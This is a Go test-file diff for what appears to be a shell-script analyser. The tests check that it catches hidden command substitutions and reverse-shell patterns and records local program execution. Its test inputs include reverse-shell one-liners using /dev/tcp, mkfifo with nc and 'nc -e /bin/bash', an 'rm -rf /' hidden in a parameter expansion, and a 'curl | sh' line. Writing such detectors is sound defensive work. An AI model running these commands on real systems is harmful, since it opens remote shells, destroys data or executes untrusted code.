@@ -834,3 +834,54 @@ func TestScriptingShellCalls(t *testing.T) {
 		}
 	}
 }
+
+func TestHiddenSubstitutions(t *testing.T) {
+	for _, tc := range []struct{ src, cmd string }{
+		{`echo ${X:-$(rm -rf /)}`, "rm"},
+		{`echo $(( $(id -u) + 1 ))`, "id"},
+		{`(( x = $(whoami | wc -c) ))`, "whoami"},
+		{`for ((i=$(nproc); i>0; i--)); do :; done`, "nproc"},
+		{`echo ${v/$(date)/x}`, "date"},
+	} {
+		f := run(t, tc.src)
+		if c := findCmd(f, tc.cmd); c == nil || !hasReach(c, "substitution") {
+			t.Errorf("%q: hidden substitution not walked: %s", tc.src, dump(f))
+		}
+	}
+}
+
+func TestReverseShellShapes(t *testing.T) {
+	for _, src := range []string{
+		`exec 196<>/dev/tcp/10.0.0.1/4444; sh <&196 >&196 2>&196`,
+		`rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4242 >/tmp/f`,
+		`nc -l 8080 | sh`,
+		`nc -lvnp 4444 -e /bin/bash`,
+		`sh -i >& /dev/udp/10.0.0.1/53 0>&1`,
+	} {
+		f := run(t, src)
+		found := false
+		for _, n := range f.Network {
+			found = found || n.ExecShell
+		}
+		if !found {
+			t.Errorf("%q: no exec_shell connection: %s", src, dump(f))
+		}
+	}
+	for _, src := range []string{`curl x.io/a | sh`, `exec 3<>/dev/tcp/example.org/80; cat <&3`, `nc x.io 80 < req.txt`} {
+		for _, n := range run(t, src).Network {
+			if n.ExecShell {
+				t.Errorf("%q: exec_shell on %+v", src, n)
+			}
+		}
+	}
+	if n := findNet(run(t, `nc -l 8080`), "nc"); n == nil || n.Port != 8080 || n.Host != "" || !n.Listen {
+		t.Errorf("nc -l port: %+v", n)
+	}
+}
+
+func TestExecOfLocalProgram(t *testing.T) {
+	f := run(t, `./scripts/deploy.sh --prod; ~/bin/tool; /usr/bin/env true`)
+	if findFile(f, "exec", "scripts/deploy.sh") == nil || findFile(f, "exec", "~/bin/tool") == nil || findFile(f, "exec", "/usr/bin/env") != nil {
+		t.Fatalf("exec accesses: %s", dump(f))
+	}
+}
